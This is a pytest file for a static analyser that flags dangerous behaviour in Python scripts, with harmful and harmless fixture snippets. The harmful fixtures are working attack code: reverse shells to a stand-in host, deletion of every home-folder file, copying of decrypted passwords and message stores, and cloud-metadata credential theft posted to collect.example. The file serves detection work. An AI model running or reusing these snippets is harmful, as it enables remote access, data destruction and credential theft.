"""What scripts delete, put where others see it, or hand to a far host; and what only looks like it."""

from textwrap import dedent

import pytest

from skillpack.abilities.python.flow import python_flows
from skillpack.abilities.source_text import SourceText
from skillpack.model.ability import Ability, AbilityKind, Concern


def concerns(text: str) -> list[str]:
    sources = [SourceText("a.py", dedent(text), "python")]
    found = [each for each in python_flows(sources) if isinstance(each, Concern)]
    return list(dict.fromkeys(f"{each.kind} {each.level.name.lower()}" for each in found))


HARMFUL = {
    "a shell whose input is a socket, by number": (
        """
        import os, socket, subprocess
        link = socket.socket()
        link.connect(("view.example", 4443))
        for number in (0, 1, 2):
            os.dup2(link.fileno(), number)
        subprocess.call(["/bin/sh", "-i"])
        """,
        ["persists stop"],
    ),
    "a shell whose input is a socket, by name": (
        """
        import socket, subprocess
        with socket.create_connection(("view.example", 4443)) as link:
            subprocess.Popen("sh", stdin=link, stdout=link)
        """,
        ["persists stop"],
    ),
    "every file below the home folder": (
        """
        from pathlib import Path
        for file in Path.home().rglob("*"):
            if file.suffix == ".docx":
                file.unlink()
        """,
        ["destroys read_first"],
    ),
    "what a walk of the home folder gives": (
        """
        import os
        def walk(root):
            for folder, _, names in os.walk(root):
                for name in names:
                    yield os.path.join(folder, name)
        for path in walk(os.path.expanduser("~")):
            os.remove(path)
        """,
        ["destroys read_first"],
    ),
    "messages copied to a folder that all share": (
        """
        import pathlib, shutil
        stores = {"a": pathlib.Path.home() / "Library/Messages/chat.db"}
        for name, store in stores.items():
            shutil.copy(store, pathlib.Path("/Users/Shared/.sum") / name)
        """,
        ["sends-private stop"],
    ),
    "passwords written to a folder that all share": (
        """
        import json, win32crypt
        from pathlib import Path
        found = [win32crypt.CryptUnprotectData(each) for each in rows]
        Path("C:/Users/Public/x.json").write_text(json.dumps(found))
        """,
        ["sends-private stop"],
    ),
    "what a role may do, told to a stranger": (
        """
        import requests
        found = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/x").text
        requests.post("https://collect.example", data=found)
        """,
        ["sends-private stop"],
    ),
}
HARMLESS = {
    "a socket that is served": """
        import os, socket, subprocess
        server = socket.create_server(("", 8000))
        subprocess.run(["ls"], stdin=subprocess.DEVNULL)
        os.dup2(log.fileno(), 1)
        """,
    "files of a kind below the home folder": """
        from pathlib import Path
        for file in Path.home().rglob(".DS_Store"):
            file.unlink()
        """,
    "files below a folder that is given": """
        import os, sys
        for name in os.listdir(sys.argv[1]):
            os.remove(os.path.join(sys.argv[1], name))
        """,
    "a cache of its own in the home folder": """
        from pathlib import Path
        for file in (Path.home() / ".cache/tool").iterdir():
            file.unlink()
        """,
    "a page that all see": """
        from pathlib import Path
        Path("/var/www/html/index.html").write_text(render(data))
        """,
    "a backup of messages at home": """
        import pathlib, shutil
        shutil.copy(pathlib.Path.home() / "Library/Messages/chat.db", pathlib.Path.home() / "Backups")
        """,
}


@pytest.mark.parametrize(("text", "expected"), HARMFUL.values(), ids=HARMFUL)
def test_a_danger_is_a_concern(text: str, expected: list[str]) -> None:
    assert concerns(text) == expected


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS)
def test_what_honest_scripts_do_is_none(text: str) -> None:
    assert concerns(text) == []


@pytest.mark.parametrize(
    ("statement", "words"),
    [
        ("DROP TABLE users", ["drop table"]),
        ("truncate  table users", ["truncate table"]),
        ("DELETE FROM users;", ["delete from"]),
        ("DELETE FROM users WHERE id = 1", []),
        ("SELECT * FROM dropped", []),
    ],
)
def test_what_is_deleted_of_a_database(statement: str, words: list[str]) -> None:
    source = SourceText("a.py", f"import sqlite3\nsqlite3.connect(x).execute({statement!r})\n# eval", "python")
    found = [each for each in python_flows([source]) if isinstance(each, Ability) and each.kind is AbilityKind.DROPS]
    assert [each.words for each in found] == words


@pytest.mark.parametrize(
    ("client", "expected"),
    [
        ('OpenAI(api_key=os.environ["OPENAI_API_KEY"], base_url="https://relay.invalid/v1")', 1),
        ('OpenAI(api_key=os.environ["OPENAI_API_KEY"])', 0),
        ('OpenAI(api_key=os.environ["OPENAI_API_KEY"], base_url="http://localhost:11434/v1")', 0),
        ('OpenAI(api_key=os.environ["DEEPSEEK_API_KEY"], base_url="https://api.deepseek.com")', 0),
        ('OpenAI(api_key="none", base_url="https://relay.invalid/v1")', 0),
    ],
)
def test_a_client_that_is_given_a_key_sends_it_to_its_address(client: str, expected: int) -> None:
    assert len(concerns(f"import os\nfrom openai import OpenAI\n\nclient = {client}\n")) == expected
